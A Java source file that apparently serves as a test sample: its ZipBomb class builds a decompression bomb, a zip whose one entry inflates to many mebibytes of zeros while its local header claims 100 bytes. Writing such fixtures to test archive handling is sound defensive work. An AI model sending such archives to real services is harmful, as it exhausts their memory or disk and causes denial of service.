package io.kcadvisor.sample;

import java.io.ByteArrayOutputStream;
import java.nio.ByteBuffer;
import java.nio.ByteOrder;
import java.nio.charset.StandardCharsets;
import java.util.zip.CRC32;
import java.util.zip.Deflater;

/**
 * Writes a zip whose single entry inflates to many mebibytes of zeros, without ever
 * holding them: one mebibyte of zeros is deflated once, ending on a full flush so that it
 * refers to nothing before it, and that block is repeated. The local header claims a tiny
 * size, as a hostile archive would.
 */
public final class ZipBomb {

	private static final int MIB = 1 << 20;

	private ZipBomb() {
	}

	public static byte[] zeros(String name, int mebibytes) {
		byte[] block = flushedZeros(MIB);
		byte[] end = finalBlock();
		byte[] fileName = name.getBytes(StandardCharsets.UTF_8);
		long compressed = (long) block.length * mebibytes + end.length;
		long inflated = (long) MIB * mebibytes;
		long crc = crcOfZeros(mebibytes);
		ByteArrayOutputStream zip = new ByteArrayOutputStream((int) compressed + 256);
		zip.writeBytes(localHeader(fileName));
		for (int i = 0; i < mebibytes; i++) {
			zip.writeBytes(block);
		}
		zip.writeBytes(end);
		zip.writeBytes(little(16).putInt(0x08074b50)
			.putInt((int) crc)
			.putInt((int) compressed)
			.putInt((int) inflated)
			.array());
		int directoryOffset = zip.size();
		byte[] directory = centralHeader(fileName, crc, compressed, inflated);
		zip.writeBytes(directory);
		zip.writeBytes(little(22).putInt(0x06054b50)
			.putShort((short) 0)
			.putShort((short) 0)
			.putShort((short) 1)
			.putShort((short) 1)
			.putInt(directory.length)
			.putInt(directoryOffset)
			.putShort((short) 0)
			.array());
		return zip.toByteArray();
	}

	private static byte[] localHeader(byte[] fileName) {
		return little(30 + fileName.length).putInt(0x04034b50)
			.putShort((short) 20)
			.putShort((short) 0x0808)
			.putShort((short) 8)
			.putShort((short) 0)
			.putShort((short) 0x21)
			.putInt(0)
			.putInt(100)
			.putInt(100)
			.putShort((short) fileName.length)
			.putShort((short) 0)
			.put(fileName)
			.array();
	}

	private static byte[] centralHeader(byte[] fileName, long crc, long compressed, long inflated) {
		return little(46 + fileName.length).putInt(0x02014b50)
			.putShort((short) 20)
			.putShort((short) 20)
			.putShort((short) 0x0808)
			.putShort((short) 8)
			.putShort((short) 0)
			.putShort((short) 0x21)
			.putInt((int) crc)
			.putInt((int) compressed)
			.putInt((int) inflated)
			.putShort((short) fileName.length)
			.putShort((short) 0)
			.putShort((short) 0)
			.putShort((short) 0)
			.putShort((short) 0)
			.putInt(0)
			.putInt(0)
			.put(fileName)
			.array();
	}

	/**
	 * Deflates zeros into non-final blocks ending on a full flush, so that the bytes
	 * refer to nothing before them and can be repeated.
	 */
	private static byte[] flushedZeros(int length) {
		Deflater deflater = new Deflater(Deflater.BEST_COMPRESSION, true);
		try {
			deflater.setInput(new byte[length]);
			ByteArrayOutputStream out = new ByteArrayOutputStream();
			byte[] buffer = new byte[8192];
			int written;
			do {
				written = deflater.deflate(buffer, 0, buffer.length, Deflater.FULL_FLUSH);
				out.write(buffer, 0, written);
			}
			while (written == buffer.length);
			return out.toByteArray();
		}
		finally {
			deflater.end();
		}
	}

	/**
	 * Returns an empty final block, ending the deflate stream.
	 */
	private static byte[] finalBlock() {
		Deflater deflater = new Deflater(Deflater.BEST_COMPRESSION, true);
		try {
			deflater.finish();
			byte[] buffer = new byte[64];
			int written = deflater.deflate(buffer);
			return java.util.Arrays.copyOf(buffer, written);
		}
		finally {
			deflater.end();
		}
	}

	private static long crcOfZeros(int mebibytes) {
		CRC32 crc = new CRC32();
		byte[] zeros = new byte[MIB];
		for (int i = 0; i < mebibytes; i++) {
			crc.update(zeros);
		}
		return crc.getValue();
	}

	private static ByteBuffer little(int size) {
		return ByteBuffer.allocate(size).order(ByteOrder.LITTLE_ENDIAN);
	}

}
